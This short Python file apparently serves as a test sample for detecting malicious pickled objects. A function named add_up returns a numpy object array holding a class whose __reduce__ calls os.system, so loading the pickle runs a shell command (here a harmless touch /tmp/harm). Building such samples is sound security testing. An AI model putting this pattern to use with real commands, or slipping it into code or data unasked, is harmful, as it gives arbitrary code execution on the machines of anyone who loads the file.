# class: lying objects
# tries: returns an array of objects that do harm when unpickled
# stock: -
import os
import numpy as np

class Harm:
    def __reduce__(self): return (os.system, ("touch /tmp/harm",))

def add_up(x):
    return np.array([Harm()], dtype=object)
